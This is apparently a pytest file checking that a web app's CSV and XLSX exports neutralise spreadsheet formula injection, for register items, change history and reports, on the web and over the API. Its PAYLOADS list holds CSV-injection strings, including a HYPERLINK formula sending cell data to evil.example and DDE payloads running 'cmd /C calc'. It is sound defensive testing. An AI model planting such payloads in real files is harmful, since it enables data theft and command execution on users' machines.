"""Every export writes user text as text: a register value a spreadsheet would run as a formula
(CSV injection) reaches the file neutralised, in CSV and in XLSX, on the web and over the API."""

from __future__ import annotations

import csv
import io
from decimal import Decimal, InvalidOperation
from pathlib import Path

import openpyxl
import pytest
from flask.testing import FlaskClient

from tests.support.api import ApiClient
from tests.support.helpers import at, implement_normal_change, laptop
from tests.support.web import login
from usm.services import register
from usm.services.audit import reconcile_file
from usm.services.platform import Database, neutralised, restored

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def api(web_app) -> ApiClient:  # type: ignore[no-untyped-def]
    return ApiClient(web_app)


@pytest.fixture
def hostile(web_db: Database) -> str:
    """Items whose names, owners, locations and suppliers, and a change whose title, are
    formulas; they depreciate, expire and show in every report. Returns one item's key."""
    implement_normal_change(web_db, [
        laptop(f"l{n}", f"SN-F-{n}", name=payload, owner=PAYLOADS[(n + 1) % len(PAYLOADS)],
               location=PAYLOADS[(n + 2) % len(PAYLOADS)], supplier=payload, status="in_use",
               purchase_cost="1000.00", currency="EUR", acquired_on="2026-01-01",
               in_service_on="2026-01-01", depreciation_method="straight_line",
               depreciation_months=36, warranty_end="2026-06-30")
        for n, payload in enumerate(PAYLOADS)], at("2026-01-10"), title=PAYLOADS[0])
    rows, _ = register.list_items(web_db)
    return rows[0].key


WEB_EXPORTS = [
    "/items/export.{fmt}",
    "/items/{key}/history.{fmt}",
    "/changes/export.{fmt}?all=1",
    "/reports/finance/export/book-items.{fmt}?as_of=2026-03-31",
    "/reports/lifecycle/export?table=expiring&format={fmt}&as_of=2026-03-31&days=365",
    "/reports/lifecycle/export?table=stock&format={fmt}",
    "/reports/licences/export?table=installations&format={fmt}",
]
API_EXPORTS = [
    "/exports/items?format={fmt}",
    "/exports/items/{key}/history?format={fmt}",
    "/exports/changes?format={fmt}",
]


def _cells(body: bytes, fmt: str) -> list[tuple[object, str]]:
    """(value, type) of every cell: CSV cells are text ("s"); XLSX cells as the file types them."""
    if fmt == "csv":
        text = body.decode("utf-8-sig")
        return [(cell, "s") for row in csv.reader(io.StringIO(text)) for cell in row]
    book = openpyxl.load_workbook(io.BytesIO(body))
    return [(cell.value, cell.data_type) for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _is_number(text: str) -> bool:
    try:
        Decimal(text.replace(",", ""))
    except InvalidOperation:
        return False
    return True


def _assert_no_formulas(body: bytes, fmt: str, expect_payload: bool) -> None:
    cells = _cells(body, fmt)
    assert not [value for value, kind in cells if kind == "f"], "a cell is a formula"
    if fmt == "csv":
        live = [value for value, _ in cells if isinstance(value, str)
                and value.lstrip(" ").startswith(FORMULA_START) and not _is_number(value)]
        assert not live, f"cells a spreadsheet would run: {live[:3]}"
        found = {restored(value) for value, _ in cells if isinstance(value, str)}
    else:
        found = {value for value, _ in cells}
    if expect_payload:  # the user's text is there, as text, not dropped
        assert found & set(PAYLOADS)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("url", WEB_EXPORTS)
def test_web_exports_write_formulas_as_text(web_client: FlaskClient, hostile: str, url: str,
                                            fmt: str) -> None:
    login(web_client, "sam")
    response = web_client.get(url.format(fmt=fmt, key=hostile))
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.headers["Cache-Control"] == "no-store"
    _assert_no_formulas(response.data, fmt, expect_payload="stock" not in url
                        and "licences" not in url)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("url", API_EXPORTS)
def test_api_exports_write_formulas_as_text(api: ApiClient, hostile: str, url: str,
                                            fmt: str) -> None:
    response = api.get(url.format(fmt=fmt, key=hostile), "sam")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    _assert_no_formulas(response.data, fmt, expect_payload=True)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_neutralised_text_reads_back_as_it_was(payload: str) -> None:
    assert neutralised(payload).startswith("'")
    assert restored(neutralised(payload)) == payload
    assert restored(neutralised("Laptop 14")) == "Laptop 14"


def test_an_export_with_formulas_imports_back_without_differences(
        web_client: FlaskClient, web_db: Database, hostile: str, tmp_path: Path) -> None:
    login(web_client, "sam")
    exported = tmp_path / "items.csv"
    exported.write_bytes(web_client.get("/items/export.csv").data)
    rec = reconcile_file(web_db, exported, "csv")
    assert rec.ok and rec.matched == len(PAYLOADS)
    assert rec.differences == []


def test_https_responses_tell_browsers_to_keep_to_https(web_client: FlaskClient) -> None:
    secure = web_client.get("/login", base_url="https://usm.example")
    assert secure.headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"
    assert "Strict-Transport-Security" not in web_client.get("/login").headers
